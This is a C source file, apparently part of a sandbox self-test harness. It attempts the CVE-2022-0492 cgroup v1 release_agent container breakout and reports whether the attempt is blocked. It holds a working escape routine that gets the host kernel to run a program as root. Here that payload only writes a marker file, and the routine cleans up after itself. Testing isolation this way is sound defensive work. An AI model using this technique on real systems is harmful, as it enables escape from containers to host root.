/* cgroup v1 release_agent: CVE-2022-0492 and Felix Wilhelm's
 * privileged-container breakout (https://unit42.paloaltonetworks.com/cve-2022-0492-cgroups/).
 * With CAP_SYS_ADMIN a container mounts a cgroup v1 hierarchy (here a
 * fresh named one, so no host hierarchy is touched), sets the root's
 * release_agent to a program, and empties a child cgroup with
 * notify_on_release set: the host kernel then runs the program as root
 * in the host's namespaces. The program is this binary, at its host path
 * (SELFTEST_HOST_ROOTFS/attack; a real attack reads it from
 * /proc/self/mountinfo); run as an agent it only writes a marker file
 * the runner checks (main.c). Everything is undone at the end. */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    long n = write(fd, text, strlen(text));
    int e = errno;
    close(fd);
    errno = e;
    return n == (long)strlen(text) ? 0 : -1;
}

int attack_release_agent(void) {
    const char *root = need_env("SELFTEST_HOST_ROOTFS");
    char opts[64], agent[4200];
    snprintf(opts, sizeof opts, "none,name=selftest%d", (int)getpid() ^ (int)time(NULL));
    snprintf(agent, sizeof agent, "%s/attack", root);
    mkdir("/tmp/selftest-cg", 0700);
    if (mount("cgroup", "/tmp/selftest-cg", "cgroup", 0, opts) < 0)
        BLOCKED_ERRNO("mount a cgroup v1 hierarchy");
    const char *step = NULL;
    if (mkdir("/tmp/selftest-cg/x", 0700) < 0 && errno != EEXIST)
        step = "mkdir a child cgroup";
    else if (put("/tmp/selftest-cg/x/notify_on_release", "1") < 0)
        step = "write notify_on_release";
    else if (put("/tmp/selftest-cg/release_agent", agent) < 0)
        step = "write release_agent";
    if (!step) {
        pid_t c = fork();
        if (c == 0) {
            char pid[32];
            snprintf(pid, sizeof pid, "%d", getpid());
            _exit(put("/tmp/selftest-cg/x/cgroup.procs", pid) < 0 ? 1 : 0);
        }
        int st = 0;
        waitpid(c, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
            step = "move a process into the child cgroup";
        else
            usleep(500 * 1000); /* the agent runs asynchronously */
    }
    int e = errno;
    put("/tmp/selftest-cg/release_agent", "");
    rmdir("/tmp/selftest-cg/x");
    umount2("/tmp/selftest-cg", MNT_DETACH);
    if (step) {
        errno = e;
        BLOCKED_ERRNO(step);
    }
    WORKED("set release_agent and emptied a notify_on_release cgroup");
}
